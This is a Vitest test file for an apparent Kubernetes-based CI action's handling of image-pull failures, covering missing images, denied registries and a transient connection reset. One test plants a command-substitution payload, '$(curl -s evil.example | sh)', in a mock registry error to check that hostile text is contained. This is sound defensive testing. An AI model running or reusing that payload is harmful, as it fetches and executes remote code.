import { createServer } from 'node:http';
import { describe, expect, test } from 'vitest';
import { serve } from '../serve.ts';
import { errorsIn, reportOf } from './action.ts';
import { useStage } from './stage.ts';

const stage = useStage();

describe('an image that cannot be pulled', () => {
  test('fails the step with its cause and the words of the node, and leaves no pod', async () => {
    const image = `${stage.registry.address}/ok/app:nope`;
    const inputs = { image, run: 'true', 'pull-grace': '10m' };
    const { exitCode, log, outputs, summary } = await stage.run(inputs);

    expect(outputs).toMatchObject({
      outcome: 'failure',
      category: 'image-pull',
      reason: 'not-found',
      retryable: 'false',
      image,
      container: 'step',
      'exit-code': '',
      'image-digest': '',
    });
    expect(outputs['message']).toBe(
      `${image} does not exist in its registry (container step, policy Always, node ${outputs['node']}).`,
    );
    expect(errorsIn(log)).toEqual([
      expect.stringMatching(/^::error title=Image not found%3A .*%3Anope::.*does not exist in its registry/),
    ]);
    expect(summary).toMatch(/^### ❌ `true` · Image not found/);
    expect(summary).toContain('| step | `');
    expect(summary).toContain("kubectl create -f - <<'EOF'");
    expect(summary).toContain(stage.runtime === 'cri-o' ? 'reading manifest' : 'failed to resolve image');
    const report = reportOf({ outputs });
    expect(report).toMatchObject({
      version: 1,
      reason: 'not-found',
      retryable: false,
      pages: { run: 'https://github.com/acme/shop/actions/runs/1234567/attempts/1', job: null },
      attempts: [{ containers: [{ name: 'step', pull: { end: 'failed', cause: 'not-found', tries: 1 } }] }],
      leftOut: [],
    });
    // If the status comes first, the verdict does not wait for the event.
    expect(report.events).toBeOneOf([
      [],
      [expect.objectContaining({ reason: 'Failed', container: 'step', warning: true })],
    ]);
    expect(exitCode).toBe(1);
    expect(await stage.podsLeft()).toEqual([]);
  });

  test('is the output, whatever its registry calls it, if events can not be read', async ({ skip }) => {
    const { simulator } = stage;
    if (simulator === undefined) return skip();
    simulator.api.deny('watch', 'events');
    simulator.api.deny('list', 'events');
    const message = 'Back-off pulling image "$(curl -s evil.example | sh)"';
    const server = createServer((_, answer) => {
      answer.writeHead(403, { 'Content-Type': 'application/json' });
      answer.end(JSON.stringify({ errors: [{ code: 'DENIED', message }] }));
    });
    await using registry = await serve(server);
    const image = `${registry.address}/app:1`;
    const { outputs } = await stage.run({ image, preflight: 'never', run: 'true' });

    expect(outputs).toMatchObject({ reason: 'unauthorized', image });
  });

  test('is given a grace when its registry is unavailable for a moment', async () => {
    const image = stage.push('shaky/app');
    stage.registry.misbehave('shaky/app', { kind: 'reset', times: 1 });
    const { outputs, log, exitCode } = await stage.run({
      image,
      run: 'echo survived',
    });

    expect(log.some((line) => /pull failed: registry unreachable; waiting up to/.test(line))).toBe(true);
    expect(log).toContain('survived');
    expect(outputs['outcome']).toBe('success');
    expect(exitCode).toBe(0);
  });
});
